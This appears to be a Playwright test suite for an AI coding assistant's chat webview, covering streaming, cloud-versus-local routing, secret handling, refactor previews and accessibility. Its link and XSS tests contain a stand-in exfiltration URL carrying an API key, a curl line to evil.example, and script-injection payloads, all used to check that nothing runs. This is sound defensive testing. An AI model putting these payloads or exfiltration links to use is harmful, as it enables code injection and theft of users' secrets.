// The chat webview in a real browser (Debian chromium), driven by a scripted host.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { ContextChip } from '../../src/shared/webview';
import { answerTurn, cloudAnswer, localAnswer, userTurn } from './fixtures';
import { hostPost, pageErrors, posted, screenshot, startHost, waitPosted, type Host } from './host';

let host: Host;
before(async () => {
  host = await startHost();
});
after(async () => {
  await host?.close();
});

const fileChip: ContextChip = { key: 'file:file:///work/app/src/billing.ts', kind: 'file', uri: 'file:///work/app/src/billing.ts', label: 'billing.ts', description: 'src/billing.ts' };
const selectionChip: ContextChip = { ...fileChip, key: 'selection:file:///work/app/src/billing.ts:9-20', kind: 'selection', label: 'billing.ts:10-21', description: 'Selection in src/billing.ts', range: { startLine: 9, endLine: 20 } };

async function chat(options: { withoutCsp?: boolean } = {}): Promise<Page> {
  const page = await host.open('chat', options);
  await hostPost(page, { type: 'init', turns: [], chips: [], running: true });
  return page;
}

async function streamAnswer(page: Page, id: string, chunks: string[]): Promise<void> {
  for (const delta of chunks) await hostPost(page, { type: 'delta', id, delta });
}

void describe('chat webview', () => {
  void it('streams an answer as markdown with highlighted code, then shows the route badge and manifest', async () => {
    const page = await chat();
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'How is the invoice total computed?', { chips: [fileChip] }) });
    await hostPost(page, { type: 'turn', turn: answerTurn('a1', 'u1') });
    const body = page.locator('[data-id="a1"] .answer-body');
    assert.equal(await body.getAttribute('aria-busy'), 'true');
    assert.equal(await body.getAttribute('aria-live'), 'polite');
    await streamAnswer(page, 'a1', ['## Invoice', ' total\n\nIt sums **line items** ', 'and applies `tax`:\n\n```ts\n', 'export function total(items: Item[]): number {\n  return items.reduce((s, i) => s + i.price, 0);\n}\n', '```\n']);
    await page.locator('[data-id="a1"] h2', { hasText: 'Invoice total' }).waitFor();
    await page.locator('[data-id="a1"] code.hljs.language-ts .hljs-keyword', { hasText: 'export' }).first().waitFor();
    assert.equal(await page.locator('[data-id="a1"] strong').textContent(), 'line items');
    // The stop button shows while streaming.
    assert.equal(await page.locator('button.stop').isVisible(), true);

    const text = '## Invoice total\n\nIt sums **line items** and applies `tax`:\n\n```ts\nexport function total(items: Item[]): number {\n  return items.reduce((s, i) => s + i.price, 0);\n}\n```\n';
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text, state: 'done', answer: cloudAnswer }) });
    const badge = page.locator('[data-id="a1"] .route-badge');
    assert.equal((await badge.textContent())?.trim(), 'cloud · claude-sonnet-4-5 · $0.0123');
    assert.match((await page.locator('[data-id="a1"] .route-reason').textContent()) ?? '', /you asked for Claude/);
    assert.equal(await body.getAttribute('aria-busy'), 'false');
    assert.equal(await page.locator('button.stop').isVisible(), false);
    const manifest = page.locator('[data-id="a1"] .manifest');
    assert.equal(await manifest.isVisible(), false);
    await badge.click();
    assert.equal(await badge.getAttribute('aria-expanded'), 'true');
    const manifestText = (await manifest.textContent()) ?? '';
    assert.match(manifestText, /Sent to claude-sonnet-4-5: 3\.1k tokens from 2 files/);
    assert.match(manifestText, /billing\.ts lines 10-42 · 2\.1 KB/);
    assert.match(manifestText, /invoice\.ts whole file/);
    assert.match(manifestText, /billing\.ts:12 \(aws-access-key\)/);

    // Copy and insert act on the code block's own text.
    await page.locator('[data-id="a1"] button[aria-label="Copy code"]').click();
    const copy = await waitPosted<{ text: string }>(page, 'copy');
    assert.equal(copy.text, 'export function total(items: Item[]): number {\n  return items.reduce((s, i) => s + i.price, 0);\n}');
    await page.locator('[data-id="a1"] button[aria-label="Insert code at cursor"]').click();
    assert.equal((await waitPosted<{ text: string }>(page, 'insert')).text, copy.text);

    // A cloud answer offers "Answer locally".
    await page.locator('[data-id="a1"] button', { hasText: 'Answer locally' }).click();
    const retry = await waitPosted<{ of: string; prefer: string; id: string }>(page, 'retry');
    assert.deepEqual({ of: retry.of, prefer: retry.prefer }, { of: 'a1', prefer: 'local' });
    assert.ok(retry.id);
    await screenshot(page, 'chat-answer');
    assert.deepEqual(pageErrors(page), []);
    await page.close();
  });

  void it('local answer: "Ask Claude instead" asks again on the cloud, the manifest says nothing left', async () => {
    const page = await chat();
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'What does parse() do?') });
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text: 'It parses.', state: 'done', answer: localAnswer }) });
    const badge = page.locator('[data-id="a1"] .route-badge');
    assert.equal((await badge.textContent())?.trim(), 'local · qwen2.5-coder-7b · $0.00');
    await badge.click();
    assert.match((await page.locator('[data-id="a1"] .manifest').textContent()) ?? '', /Nothing left this machine/);
    assert.equal(await page.locator('[data-id="a1"] button', { hasText: 'Answer locally' }).count(), 0);
    await page.locator('[data-id="a1"] button', { hasText: 'Ask Claude instead' }).click();
    const retry = await waitPosted<{ of: string; prefer: string }>(page, 'retry');
    assert.deepEqual({ of: retry.of, prefer: retry.prefer }, { of: 'a1', prefer: 'cloud' });
    await page.close();
  });

  void it('a local answer from an inference server on another machine shows what was sent there', async () => {
    const page = await chat();
    const destination = { kind: 'llama-server' as const, url: 'http://gpu-box:8080', trusted: false };
    const answer = { ...localAnswer, destination, manifest: { files: [{ uri: 'file:///work/app/src/billing.ts', ranges: [{ startLine: 0, endLine: 40 }], bytes: 2048 }], tokens: 700, redactions: [] } };
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'What does parse() do?') });
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text: 'It parses.', state: 'done', answer }) });
    const badge = page.locator('[data-id="a1"] .route-badge');
    assert.match((await badge.getAttribute('title')) ?? '', /Answered by qwen2\.5-coder-7b on http:\/\/gpu-box:8080, another machine/);
    await badge.click();
    const manifest = (await page.locator('[data-id="a1"] .manifest').textContent()) ?? '';
    assert.match(manifest, /Sent to qwen2\.5-coder-7b on http:\/\/gpu-box:8080 \(another machine\): 700 tokens from 1 file/);
    assert.match(manifest, /billing\.ts lines 1-41/);
    assert.doesNotMatch(manifest, /Nothing left this machine/);
    await page.close();
  });

  void it('Stop and Escape post a stop for the streaming answer', async () => {
    const page = await chat();
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'long question') });
    await hostPost(page, { type: 'turn', turn: answerTurn('a1', 'u1') });
    await streamAnswer(page, 'a1', ['Part one…']);
    await page.locator('textarea').focus();
    await page.keyboard.press('Escape');
    assert.equal((await waitPosted<{ id: string }>(page, 'stop')).id, 'a1');
    await page.locator('button.stop').click();
    assert.equal((await posted(page)).filter((m) => m.type === 'stop').length, 2);
    // Escape works with the focus elsewhere in the view too.
    await page.locator('button.toggle').focus();
    await page.keyboard.press('Escape');
    assert.equal((await posted(page)).filter((m) => m.type === 'stop').length, 3);
    // Send is disabled while an answer streams: Enter does not post a second question.
    await page.locator('textarea').fill('another');
    await page.keyboard.press('Enter');
    assert.equal((await posted(page)).filter((m) => m.type === 'send').length, 0);
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text: 'Part one…', state: 'stopped', stopped: 'cancelled', answer: localAnswer }) });
    await page.locator('[data-id="a1"] .stopped', { hasText: 'Stopped.' }).waitFor();
    assert.equal(await page.locator('button.stop').isVisible(), false);
    await page.close();
  });

  void it('context chips, @-mention autocomplete and Enter send the question with its context', async () => {
    const page = await chat();
    await hostPost(page, { type: 'context', chips: [selectionChip, fileChip] });
    const chips = page.locator('.composer .chip');
    assert.deepEqual(await chips.allTextContents(), ['billing.ts:10-21', 'billing.ts']);
    await page.locator('.composer button[aria-label="Remove billing.ts from context"]').click();
    assert.deepEqual(await chips.allTextContents(), ['billing.ts:10-21']);

    const input = page.locator('textarea');
    await input.focus();
    await page.keyboard.type('Compare with @util');
    const query = await waitPosted<{ id: string; query: string }>(page, 'mentionQuery');
    assert.equal(query.query, 'util');
    const items: ContextChip[] = [
      { key: 'mention:file:///work/app/src/utils.ts', kind: 'mention', uri: 'file:///work/app/src/utils.ts', label: 'utils.ts', description: 'src/utils.ts' },
      { key: 'mention:file:///work/app/test/utils.test.ts', kind: 'mention', uri: 'file:///work/app/test/utils.test.ts', label: 'utils.test.ts', description: 'test/utils.test.ts' },
    ];
    await hostPost(page, { type: 'mentionResults', id: query.id, items });
    const options = page.locator('[role="listbox"] [role="option"]');
    await options.first().waitFor();
    assert.equal(await options.count(), 2);
    await page.keyboard.press('ArrowDown');
    assert.equal(await options.nth(1).getAttribute('aria-selected'), 'true');
    assert.equal(await input.getAttribute('aria-activedescendant'), 'mention-1');
    await screenshot(page, 'chat-mentions');
    await input.focus();
    await page.keyboard.press('Enter');
    assert.equal(await input.inputValue(), 'Compare with @test/utils.test.ts ');
    assert.deepEqual(await chips.allTextContents(), ['billing.ts:10-21', 'utils.test.ts']);
    await page.keyboard.type('please');
    await page.keyboard.press('Enter');
    const send = await waitPosted<{ text: string; kind: string; chips: ContextChip[] }>(page, 'send');
    assert.equal(send.text, 'Compare with @test/utils.test.ts please');
    assert.equal(send.kind, 'chat');
    assert.deepEqual(send.chips.map((c) => c.key), [selectionChip.key, items[1]?.key]);
    assert.equal(await input.inputValue(), '');
    await page.close();
  });

  void it('"rename …" and the Refactor toggle send kind refactor; Shift+Enter adds a line', async () => {
    const page = await chat();
    const input = page.locator('textarea');
    await input.focus();
    await page.keyboard.type('rename total to grandTotal');
    await page.keyboard.press('Enter');
    assert.equal((await waitPosted<{ kind: string }>(page, 'send')).kind, 'refactor');
    await page.locator('button.toggle').click();
    assert.equal(await page.locator('button.toggle').getAttribute('aria-pressed'), 'true');
    await input.focus();
    await page.keyboard.type('split this module');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('by feature');
    await page.keyboard.press('Enter');
    const sends = (await posted(page)).filter((m) => m.type === 'send');
    assert.equal(sends.length, 2);
    assert.deepEqual({ text: sends[1]?.text, kind: sends[1]?.kind }, { text: 'split this module\nby feature', kind: 'refactor' });
    await page.close();
  });

  void it('an error is shown in the thread with its reason and the prompt goes back into the input', async () => {
    const page = await chat();
    const input = page.locator('textarea');
    await input.fill('Summarize the billing module');
    await input.press('Enter');
    const send = await waitPosted<{ id: string; text: string }>(page, 'send');
    assert.equal(await input.inputValue(), '');
    await hostPost(page, { type: 'turn', turn: userTurn('u1', send.text) });
    await hostPost(page, { type: 'turn', turn: answerTurn(send.id, 'u1') });
    await hostPost(page, { type: 'done', id: send.id, turn: answerTurn(send.id, 'u1', { state: 'error', error: { message: 'Today\'s cloud budget ($2.00) would be exceeded: worst case $2.40.', blockedBy: 'budget' } }) });
    const alert = page.locator(`[data-id="${send.id}"] [role="alert"]`);
    assert.match((await alert.textContent()) ?? '', /Blocked by budget.*\$2\.40/s);
    assert.equal(await input.inputValue(), 'Summarize the billing module');
    // The budget rules the cloud out: only "Answer locally" is offered.
    assert.deepEqual(await page.locator(`[data-id="${send.id}"] .turn-actions button`).allTextContents(), ['Answer locally']);
    await screenshot(page, 'chat-error');
    // Engine not running: a banner says so; history from the last session is shown.
    await hostPost(page, { type: 'init', turns: [userTurn('u9', 'old question'), answerTurn('a9', 'u9', { text: 'old **answer**', state: 'done', answer: localAnswer })], chips: [], running: false });
    await page.locator('.banner', { hasText: 'engine is not running' }).waitFor();
    assert.equal(await page.locator('[data-id="a9"] strong').textContent(), 'answer');
    await screenshot(page, 'chat-history-engine-stopped');
    await page.close();
  });

  void it('an answer kept local because of a secret offers "Allow this value"; once allowed, "Ask Claude instead" returns', async () => {
    const page = await chat();
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'why does this token fail?') });
    const secrets = [{ where: 'Your message', uri: 'tandem:prompt', line: 0, rule: 'high-entropy', hash: 'a'.repeat(64) }];
    const turn = answerTurn('a1', 'u1', { text: 'It is malformed.', state: 'done', answer: localAnswer, blockedSecrets: secrets });
    await hostPost(page, { type: 'done', id: 'a1', turn });
    const note = page.locator('[data-id="a1"] .secrets');
    assert.match((await note.textContent()) ?? '', /Kept off the cloud: Your message looks like a secret \(high-entropy\)/);
    assert.equal(await page.locator('[data-id="a1"] button', { hasText: 'Ask Claude instead' }).count(), 0, 'the secret rules the cloud out');
    await screenshot(page, 'chat-secret-allow');
    await note.locator('button', { hasText: 'Allow this value' }).click();
    assert.equal((await waitPosted<{ id: string }>(page, 'allowValues')).id, 'a1');
    await hostPost(page, { type: 'turn', turn: { ...turn, allowed: true } });
    await page.locator('[data-id="a1"] .secrets', { hasText: 'Allowed' }).waitFor();
    await page.locator('[data-id="a1"] button', { hasText: 'Ask Claude instead' }).waitFor();
    await page.close();
  });

  void it('a refactor answer lists the proposed files and edit errors, then the outcome', async () => {
    const page = await chat();
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'rename total to grandTotal', { kind: 'refactor' }) });
    const refactor = {
      files: [
        { uri: 'file:///work/app/src/billing.ts', label: 'billing.ts', description: 'src/billing.ts', edits: 3 },
        { uri: 'file:///work/app/src/invoice.ts', label: 'invoice.ts', description: 'src/invoice.ts', edits: 1 },
        { uri: 'file:///work/app/package.json', label: 'package.json', description: 'package.json', edits: 1, runsCode: 'npm runs its scripts' },
      ],
      errors: ['src/legacy.ts: the range 400-410 is past the end of the file (120 lines)'],
      refused: [{ label: 'linked.ts', description: 'src/linked.ts', edits: 2, reason: 'it is a link to /home/me/.ssh/config, outside the workspace folders' }],
      outcome: 'previewing' as const,
    };
    const turn = answerTurn('a1', 'u1', { kind: 'refactor', text: 'Renamed `total` everywhere.', state: 'done', answer: cloudAnswer, refactor });
    await hostPost(page, { type: 'done', id: 'a1', turn });
    const box = page.locator('[data-id="a1"] .refactor');
    assert.match((await box.locator('.refactor-title').textContent()) ?? '', /Proposed 5 edits in 3 files/);
    assert.deepEqual(await box.locator('.refactor-files .file-link').allTextContents(), ['billing.ts', 'invoice.ts', 'package.json']);
    assert.match((await box.locator('.refactor-files li', { hasText: 'package.json' }).textContent()) ?? '', /runs code: npm runs its scripts\. Left unticked in the preview/);
    assert.match((await box.locator('.refactor-errors').textContent()) ?? '', /past the end of the file/);
    assert.match((await box.locator('.refactor-refused-title').textContent()) ?? '', /Refused 2 edits to files Tandem does not edit/);
    assert.match((await box.locator('.refactor-refused').textContent()) ?? '', /src\/linked\.ts \(2 edits\): it is a link to \/home\/me\/\.ssh\/config, outside the workspace folders/);
    assert.match((await box.locator('.refactor-outcome').textContent()) ?? '', /Refactor Preview, then press Apply: they are ticked, except edits to files that run code\. Nothing is written before you apply/);
    await screenshot(page, 'chat-refactor');
    await box.locator('.file-link', { hasText: 'invoice.ts' }).click();
    assert.equal((await waitPosted<{ uri: string }>(page, 'openFile')).uri, 'file:///work/app/src/invoice.ts');
    await hostPost(page, { type: 'turn', turn: { ...turn, refactor: { ...refactor, outcome: 'discarded' } } });
    await page.locator('[data-id="a1"] .refactor-outcome', { hasText: 'Discarded: no file was changed.' }).waitFor();
    await page.locator('[data-id="a1"] button', { hasText: 'Review edits again' }).click();
    assert.equal((await waitPosted<{ id: string }>(page, 'applyEdits')).id, 'a1');
    // After Apply the outcome is what the documents hold, file by file.
    const applied = [
      { uri: refactor.files[0]!.uri, label: 'billing.ts', applied: 3, of: 3, saved: false },
      { uri: refactor.files[1]!.uri, label: 'invoice.ts', applied: 1, of: 1, saved: false },
      { uri: refactor.files[2]!.uri, label: 'package.json', applied: 0, of: 1, saved: true, runsCode: 'npm runs its scripts' },
    ];
    await hostPost(page, { type: 'turn', turn: { ...turn, refactor: { ...refactor, outcome: 'applied', applied } } });
    const outcome = page.locator('[data-id="a1"] .refactor-outcome.outcome-applied');
    await outcome.waitFor();
    assert.equal(
      await outcome.textContent(),
      'Applied 4 edits in 2 files: billing.ts (3), invoice.ts (1). Not applied: package.json (0 of 1, runs code). The changed files are not saved yet; undo with Ctrl+Z / Cmd+Z in each editor.',
    );
    await screenshot(page, 'chat-refactor-applied');
    // A file changed since the edits were made: nothing applied, and "Ask again" instead of reviewing stale edits.
    await hostPost(page, { type: 'turn', turn: { ...turn, refactor: { ...refactor, outcome: 'stale', message: 'billing.ts changed after these edits were proposed, so they would land in the wrong places. No file was changed; ask again to get edits for the current text.' } } });
    await page.locator('[data-id="a1"] .refactor-outcome.outcome-stale', { hasText: 'billing.ts changed after these edits were proposed' }).waitFor();
    assert.equal(await page.locator('[data-id="a1"] button', { hasText: 'Review edits again' }).count(), 0);
    await page.locator('[data-id="a1"] button', { hasText: 'Ask again' }).click();
    assert.deepEqual(await waitPosted<{ of: string; prefer: string }>(page, 'retry').then((r) => [r.of, r.prefer]), ['a1', 'cloud']);
    await page.close();
  });

  void it('links in answers open only through the extension, which sees the full URL; bare URLs in code or HTML stay text', async () => {
    const page = await chat();
    // VS Code's webview host opens every <a href> clicked in a webview (its handleInnerClick); this stands in for it.
    await page.evaluate(() => {
      const w = window as unknown as { __hostOpened: string[] };
      w.__hostOpened = [];
      window.addEventListener('click', (ev) => {
        for (const node of ev.composedPath() as HTMLAnchorElement[]) {
          if (node.tagName === 'A' && node.href) {
            w.__hostOpened.push(node.href);
            ev.preventDefault();
            return;
          }
        }
      });
    });
    const exfil = 'http://127.0.0.1:9/exfil?code=const%20apiKey%3D%22sk-live%22';
    const text = [
      `See [MDN](https://developer.mozilla.org/en-US/docs/Web) and [the fix](${exfil}), or https://docs.python.org/3/.`,
      '`https://evil.example/?q=in-code` and <span>https://evil.example/?q=in-html</span> and &lt;a href="https://evil.example/?q=escaped"&gt;',
      '```\ncurl https://evil.example/?q=in-block\n```',
    ].join('\n\n');
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'how?') });
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text, state: 'done', answer: cloudAnswer }) });
    const body = page.locator('[data-id="a1"] .answer-body');
    await body.locator('.code-block').waitFor();
    assert.deepEqual(await body.locator('.answer-link').allTextContents(), ['MDN', 'the fix', 'https://docs.python.org/3/']);
    assert.equal(await body.locator('[href]').count(), 0, 'a link in the answer kept its href, so VS Code would open it on click');
    assert.match((await body.textContent()) ?? '', /q=in-code.*q=in-html.*q=escaped.*q=in-block/s);
    const fix = body.locator('.answer-link', { hasText: 'the fix' });
    assert.equal(await fix.getAttribute('title'), exfil);
    await fix.click();
    assert.deepEqual(await waitPosted(page, 'openLink'), { type: 'openLink', href: exfil, text: 'the fix' });
    await body.locator('.answer-link', { hasText: 'MDN' }).focus();
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => (window as unknown as { __posted: { type: string; text?: string }[] }).__posted.some((m) => m.type === 'openLink' && m.text === 'MDN'));
    assert.deepEqual(await page.evaluate(() => (window as unknown as { __hostOpened: string[] }).__hostOpened), []);
    assert.match(page.url(), /\/chat\.html/);
    await screenshot(page, 'chat-links');
    assert.deepEqual(pageErrors(page), []);
    await page.close();
  });

  for (const withoutCsp of [true, false]) {
    void it(`model output cannot run script (${withoutCsp ? 'without' : 'with'} the CSP)`, async () => {
      const page = await chat({ withoutCsp });
      const payloads = [
        'Here you go <script>window.__pwned = "script"</script>',
        '<img src="x" onerror="window.__pwned = \'img\'">',
        '<svg onload="window.__pwned = \'svg\'"><circle r="4"/></svg>',
        '<iframe srcdoc="<script>parent.__pwned = \'iframe\'</script>"></iframe>',
        '[click me](javascript:window.__pwned=\'md-link\')',
        '<a href="javascript:window.__pwned=\'a\'">html link</a>',
        '<details open ontoggle="window.__pwned=\'details\'">x</details>',
        '[data](data:text/html,<script>window.__pwned=1</script>) and <https://example.com/ok>',
        '```html\n<script>window.__pwned = "code"</script>\n```',
      ].join('\n\n');
      await hostPost(page, { type: 'turn', turn: userTurn('u1', 'xss') });
      await hostPost(page, { type: 'turn', turn: answerTurn('a1', 'u1') });
      await streamAnswer(page, 'a1', [payloads.slice(0, 100), payloads.slice(100)]);
      const evil = { ...cloudAnswer, reasons: [{ code: 'note' as const, text: '<img src=x onerror="window.__pwned=\'reason\'">' }], model: '<b onmouseover="window.__pwned=1">m</b>' };
      await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text: payloads, state: 'done', answer: evil }) });
      const thread = page.locator('.thread');
      await page.locator('[data-id="a1"] .code-block').waitFor();
      // Click every link that is left: none may run script (links in answers carry no href at all).
      for (const link of await thread.locator('a').all()) await link.click({ force: true }).catch(() => undefined);
      await page.locator('[data-id="a1"] .route-badge').hover();
      await page.waitForTimeout(200);
      assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
      const dom = await page.evaluate(() => {
        const root = document.querySelector('.thread') as HTMLElement;
        const all = Array.from(root.querySelectorAll('*'));
        return {
          scripts: root.querySelectorAll('script, iframe, svg circle, object, embed').length,
          handlers: all.filter((el) => Array.from(el.attributes).some((a) => a.name.startsWith('on'))).length,
          jsLinks: all.filter((el) => /^\s*(javascript|data):/i.test(el.getAttribute('href') ?? '')).length,
          okLink: root.querySelector('a.answer-link[data-href="https://example.com/ok"]:not([href])') !== null,
          codeShown: root.querySelector('code.hljs')?.textContent ?? '',
          reasonShown: root.querySelector('.route-reason')?.textContent ?? '',
        };
      });
      assert.deepEqual({ scripts: dom.scripts, handlers: dom.handlers, jsLinks: dom.jsLinks }, { scripts: 0, handlers: 0, jsLinks: 0 });
      assert.equal(dom.okLink, true);
      assert.equal(dom.codeShown, '<script>window.__pwned = "code"</script>');
      assert.match(dom.reasonShown, /<img src=x onerror=/);
      if (withoutCsp) await screenshot(page, 'chat-xss');
      await page.close();
    });
  }

  void it('is usable by keyboard: focus starts in the input, Tab reaches Refactor and Send', async () => {
    const page = await chat();
    assert.equal(await page.evaluate(() => document.activeElement?.tagName), 'TEXTAREA');
    assert.match((await page.locator('textarea').getAttribute('aria-label')) ?? '', /Ask Tandem/);
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Refactor mode: propose multi-file edits');
    await page.keyboard.press('Space');
    assert.equal(await page.locator('button.toggle').getAttribute('aria-pressed'), 'true');
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Send (Enter)');
    assert.equal(await page.locator('.thread').getAttribute('role'), 'log');
    await screenshot(page, 'chat-empty');
    await page.close();
  });

  void it('a long answer keeps its route badge in view: the thread follows it only up to the answer\'s top', async () => {
    const page = await host.open('chat', { height: 560 });
    await hostPost(page, { type: 'init', turns: [], chips: [], running: true });
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'Explain the whole billing module') });
    await hostPost(page, { type: 'turn', turn: answerTurn('a1', 'u1') });
    await hostPost(page, { type: 'delta', id: 'a1', delta: 'Start. ', route: 'local', model: 'qwen2.5-coder-7b' });
    const long = Array.from({ length: 60 }, (_, i) => `Paragraph ${i + 1} about invoices, taxes and rounding.\n\n`);
    await streamAnswer(page, 'a1', long);
    const thread = page.locator('.thread');
    const inView = async (selector: string): Promise<boolean> =>
      page.evaluate((sel) => {
        const t = document.querySelector('.thread')!.getBoundingClientRect();
        const b = document.querySelector(sel)!.getBoundingClientRect();
        return b.top >= t.top - 1 && b.bottom <= t.bottom + 1;
      }, selector);
    await page.locator('[data-id="a1"] .answer-body', { hasText: 'Paragraph 60' }).waitFor();
    assert.ok(await inView('[data-id="a1"] .route-badge'), 'the streaming badge scrolled out of view');
    const text = `Start. ${long.join('')}`;
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text, state: 'done', answer: localAnswer }) });
    await page.locator('[data-id="a1"] button.route-badge').waitFor();
    assert.ok(await inView('[data-id="a1"] button.route-badge'), 'the route badge scrolled out of view when the answer finished');
    assert.ok((await thread.evaluate((t) => t.scrollHeight - t.clientHeight - t.scrollTop)) > 100, 'the thread jumped to the end anyway');
    // A short answer to the next question still ends in view.
    await hostPost(page, { type: 'turn', turn: userTurn('u2', 'And in one line?') });
    await hostPost(page, { type: 'done', id: 'a2', turn: answerTurn('a2', 'u2', { text: 'It bills.', state: 'done', answer: localAnswer }) });
    assert.ok(await inView('[data-id="a2"] .turn-actions'));
    await screenshot(page, 'chat-long-answer');
    await page.close();
  });

  void it('a fallback says so where the answer ends; Claude unreachable offers Retry and nothing that cannot work', async () => {
    const page = await chat();
    await hostPost(page, { type: 'abilities', abilities: {} });
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'Explain parse()', { prefer: 'cloud' }) });
    const fellBack = { ...localAnswer, fallback: { from: 'cloud' as const, reason: { code: 'cloud-unreachable' as const, text: 'Cannot reach the Anthropic API: this machine looks offline.' } } };
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text: 'It parses.\n\nMore lines.', state: 'done', answer: fellBack }) });
    const order = await page.locator('[data-id="a1"] > *').evaluateAll((els) => els.map((e) => e.className));
    assert.ok(order.indexOf('fallback') > order.indexOf('answer-body'), `the fallback note comes before the answer ends: ${order.join(', ')}`);
    assert.match((await page.locator('[data-id="a1"] .fallback').textContent()) ?? '', /instead of cloud: Cannot reach the Anthropic API/);
    // Claude was unreachable for this question: no "Ask Claude instead" that would fail the same way, but Retry.
    assert.deepEqual(await page.locator('[data-id="a1"] .turn-actions button').allTextContents(), ['Retry', '']);

    await hostPost(page, { type: 'turn', turn: userTurn('u2', 'rename computeTotal to sumLineItems', { kind: 'refactor' }) });
    const unreachable = { message: 'Cannot reach the Anthropic API: this machine looks offline. The local model cannot write edits across several files.', blockedBy: 'cloud-unreachable' as const, noLocal: true };
    await hostPost(page, { type: 'done', id: 'a2', turn: answerTurn('a2', 'u2', { kind: 'refactor', state: 'error', error: unreachable }) });
    assert.match((await page.locator('[data-id="a2"] [role="alert"]').textContent()) ?? '', /Claude is unreachable/);
    assert.deepEqual(await page.locator('[data-id="a2"] .turn-actions button').allTextContents(), ['Retry']);
    await page.locator('[data-id="a2"] button', { hasText: 'Retry' }).click();
    const retry = await waitPosted<{ of: string; prefer?: string }>(page, 'retry');
    assert.deepEqual({ of: retry.of, prefer: retry.prefer }, { of: 'a2', prefer: undefined });
    await screenshot(page, 'chat-claude-unreachable');
    await page.close();
  });

  void it('without an API key or a local model, the buttons that cannot work are not shown, and come back when they can', async () => {
    const page = await chat();
    await hostPost(page, { type: 'abilities', abilities: { cloudUnavailable: 'no Anthropic API key is set', localUnavailable: 'no local chat model can run' } });
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'What does parse() do?') });
    const noModel = { message: 'The local model is unavailable: no chat model set. It cannot go to Claude instead: no Anthropic API key is set.', blockedBy: 'local-unavailable' as const };
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { state: 'error', error: noModel }) });
    await hostPost(page, { type: 'turn', turn: userTurn('u2', 'Why?') });
    await hostPost(page, { type: 'done', id: 'a2', turn: answerTurn('a2', 'u2', { text: 'Because.', state: 'done', answer: localAnswer }) });
    assert.equal(await page.locator('.turn-actions button', { hasText: /Ask Claude instead|Answer locally/ }).count(), 0);
    // The user sets a key: "Ask Claude instead" appears under the local answer, live.
    await hostPost(page, { type: 'abilities', abilities: { localUnavailable: 'no local chat model can run' } });
    await page.locator('[data-id="a2"] button', { hasText: 'Ask Claude instead' }).waitFor();
    await page.locator('[data-id="a1"] button', { hasText: 'Ask Claude instead' }).waitFor();
    assert.equal(await page.locator('.turn-actions button', { hasText: 'Answer locally' }).count(), 0);
    await page.close();
  });

  void it('thumbs, copies and Compare post what the user did; an unsure local answer offers Claude unless the cloud is ruled out', async () => {
    const page = await chat();
    const unsure = { ...localAnswer, entryId: 'entry-1', confidence: { meanLogProb: -1.9, level: 'low' as const, suggestCloud: true, text: 'The local model was unsure of this answer (mean token log-probability -1.90).' } };
    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'What does parse() do?') });
    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text: 'It parses:\n\n```ts\nparse(x)\n```\n', state: 'done', answer: unsure }) });
    const offer = page.locator('[data-id="a1"] .low-confidence');
    assert.match((await offer.textContent()) ?? '', /unsure of this answer \(mean token log-probability -1\.90\)/);
    await offer.locator('button', { hasText: 'Ask Claude' }).click();
    assert.deepEqual(await waitPosted<{ of: string; prefer: string }>(page, 'retry').then((m) => [m.of, m.prefer]), ['a1', 'cloud']);

    const up = page.locator('[data-id="a1"] button[aria-label="Good answer"]');
    assert.equal(await up.getAttribute('aria-pressed'), 'false');
    await up.click();
    assert.deepEqual(await waitPosted<{ id: string; rating: string }>(page, 'rate').then((m) => [m.id, m.rating]), ['a1', 'up']);
    await hostPost(page, { type: 'turn', turn: answerTurn('a1', 'u1', { text: 'It parses.', state: 'done', answer: unsure, rating: 'up' }) });
    assert.equal(await page.locator('[data-id="a1"] button[aria-label="Good answer"]').getAttribute('aria-pressed'), 'true');

    await page.locator('[data-id="a1"] button', { hasText: 'Compare' }).click();
    assert.equal((await waitPosted<{ of: string }>(page, 'compare')).of, 'a1');
    await page.locator('[data-id="a1"] button[aria-label="Copy answer"]').click();
    assert.deepEqual(await waitPosted<{ from: string; what: string }>(page, 'copy').then((m) => [m.from, m.what]), ['a1', 'answer']);

    // A secret kept this question local: no offer of Claude, no compare.
    await hostPost(page, { type: 'done', id: 'a2', turn: answerTurn('a2', 'u1', { text: 'Local only.', state: 'done', answer: { ...unsure, blockedBy: 'secret' } }) });
    await page.locator('[data-id="a2"] .answer-body', { hasText: 'Local only.' }).waitFor();
    assert.equal(await page.locator('[data-id="a2"] .low-confidence').count(), 0);
    assert.equal(await page.locator('[data-id="a2"] button', { hasText: 'Compare' }).count(), 0);
    assert.equal(await page.locator('[data-id="a2"] button', { hasText: 'Ask Claude instead' }).count(), 0);
    await screenshot(page, 'chat-feedback');
    assert.deepEqual(pageErrors(page), []);
    await page.close();
  });
});

